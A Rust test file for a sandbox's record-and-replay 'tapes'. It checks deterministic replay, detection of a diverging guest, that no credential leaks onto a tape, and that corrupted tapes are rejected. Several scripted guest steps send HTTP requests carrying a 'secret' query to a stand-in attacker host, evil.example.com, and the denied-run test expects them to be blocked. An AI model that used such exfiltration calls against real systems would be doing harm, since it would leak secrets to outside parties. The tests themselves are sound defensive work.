//! Tapes: a run is repeated from what it saw, and a guest that behaves
//! otherwise is found at the call where it does. Transcripts of one allowed, one
//! denied and one exceeded run.
use serde_json::json;
use venn_domain::run::Ending;
use venn_sandbox::{ReplayVerdict, Tape};

use super::bed::{Bed, Ran, SECRET};
use crate::support::guest;

/// The tape as it is kept, replayed on the component that made it.
async fn replayed(bed: &Bed, ran: &Ran) -> ReplayVerdict {
    let tape = Tape::decode(&ran.tape.encode().unwrap()).unwrap();
    let calls = bed.echo.calls().len();
    let replayed = bed.sandbox.replay(&ran.prepared, &tape).await;
    assert_eq!(bed.echo.calls().len(), calls, "a replay has no network");
    if replayed.verdict == ReplayVerdict::Same {
        assert_eq!(replayed.outcome.effects, ran.outcome.effects);
        assert_eq!(replayed.outcome.calls.len(), ran.outcome.calls.len());
    }
    replayed.verdict
}

fn steps() -> serde_json::Value {
    json!({ "steps": [
        { "call": "overlaps.find", "fields": ["their-name"] },
        { "call": "state.set", "key": "k", "value": "v", "partnership": "pty_00000000000000000000000001" },
        { "call": "state.get", "key": "k", "partnership": "pty_00000000000000000000000001" },
        { "call": "http.send", "method": "POST", "url": "https://echo.example/any?q=secret", "connection": "echo" },
        { "call": "timeline.append", "entries": [{
            "account": "acc_00000000000000000000000001", "key": "k", "kind": "seen", "text": "Seen.",
            "partnership": "pty_00000000000000000000000001" }] },
        { "call": "log.write", "level": "info", "message": "done" },
    ] })
}

#[tokio::test(flavor = "multi_thread")]
async fn every_run_is_repeated_from_its_tape() {
    let bed = Bed::with(super::files::control()).await;
    let clocks = bed.run("clock_random", json!({})).await;
    assert_eq!(replayed(&bed, &clocks).await, ReplayVerdict::Same);
    let looks = clocks.told();
    assert_ne!(looks[0]["random"], looks[1]["random"]);
    assert!(looks[0]["monotonic-ns"].as_u64() <= looks[1]["monotonic-ns"].as_u64());
    for (name, payload) in [
        ("script", steps()),
        ("http_wasi", json!({ "method": "POST", "url": "https://echo.example/any", "body": "b" })),
        ("http_wasi", json!({ "method": "GET", "url": "https://evil.example.com/" })),
        ("scratch_files", super::files::work()),
        ("trap_panic", json!({})),
        ("trap_stack", json!({})),
        ("random_big", json!({})),
    ] {
        let ran = bed.run(name, payload).await;
        assert_eq!(
            replayed(&bed, &ran).await,
            ReplayVerdict::Same,
            "{name}: {}",
            ran.tape.transcript()
        );
        let bytes = ran.tape.encode().unwrap();
        let leak = bytes.windows(SECRET.len()).any(|window| window == SECRET.as_bytes());
        assert!(!leak, "{name}: a credential is on the tape");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn another_guest_diverges_at_the_call_that_differs() {
    let bed = Bed::start().await;
    let payload = json!({ "value_bytes": 4, "key_bytes": 2, "keys": 3, "steps": [
        { "call": "state.set", "key": "00", "value": "xxxx" },
        { "call": "overlaps.find" },
    ] });
    let ran = bed.run("script", payload).await;
    let other = bed.sandbox.compile_here(&guest("state_flood")).unwrap();
    let diverged = bed.sandbox.replay(&other, &ran.tape).await;
    let ReplayVerdict::Diverged { at_call, expected, got } = diverged.verdict else {
        panic!("{:?}", diverged.verdict)
    };
    assert_eq!(at_call, 1);
    assert!(expected.contains("overlaps.find") && got.contains("state.set"), "{expected} / {got}");
    // One that asks for less has another outcome.
    let silent = bed.sandbox.compile_here(&guest("old_guest")).unwrap();
    let differs = bed.sandbox.replay(&silent, &ran.tape).await;
    assert_eq!(differs.verdict, ReplayVerdict::OutcomeDiffers { before_call: 0 });
}

/// The transcript without the figures of this machine.
fn shown(ran: &Ran) -> String {
    let text = ran.tape.transcript();
    let lines = text.lines().map(|line| match line.strip_prefix("usage: ") {
        Some(usage) => {
            format!("usage: {}", usage.split(", ").skip(2).collect::<Vec<_>>().join(", "))
        }
        None => line.to_owned(),
    });
    lines.collect::<Vec<_>>().join("\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn an_allowed_run_reads_so() {
    let bed = Bed::start().await;
    let ran = bed.run("script", steps()).await;
    let text = shown(&ran);
    // The first line is the report, with the message that the echo sent back.
    let (first, rest) = text.split_once('\n').unwrap();
    assert!(first.starts_with("ok: [") && !first.contains(SECRET), "{first}");
    insta::assert_snapshot!(rest);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_denied_run_reads_so() {
    let bed = Bed::start().await;
    let steps = json!({ "steps": [
        { "call": "overlaps.find", "fields": ["their-amount"] },
        { "call": "overlaps.find", "our_populations": ["prospects"] },
        { "call": "overlaps.find", "partnership": "pty_00000000000000000000000009" },
        { "call": "http.send", "method": "POST", "url": "https://evil.example.com/a?q=secret" },
        { "call": "fault", "code": "no-access", "cause": "grant-missing", "message": "Nothing to work with." },
    ] });
    let ran = bed.run("script", steps).await;
    assert!(matches!(ran.outcome.ending, Ending::Fault(_)));
    insta::assert_snapshot!(shown(&ran));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_exceeded_run_reads_so() {
    let bed = Bed::start().await;
    let ran = bed.run("random_big", json!({})).await;
    insta::assert_snapshot!(shown(&ran));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tape_of_another_format_or_damaged_says_so() {
    let bed = Bed::start().await;
    let bytes = bed.run_on("old_guest", "installed", json!({})).await.tape.encode().unwrap();
    let cut = Tape::decode(&bytes[..bytes.len() / 2]).unwrap_err().to_string();
    assert!(cut.starts_with("the tape cannot be read: "), "{cut}");
    assert!(Tape::decode(b"").is_err() && Tape::decode(b"\xff\xff\xff").is_err());
}
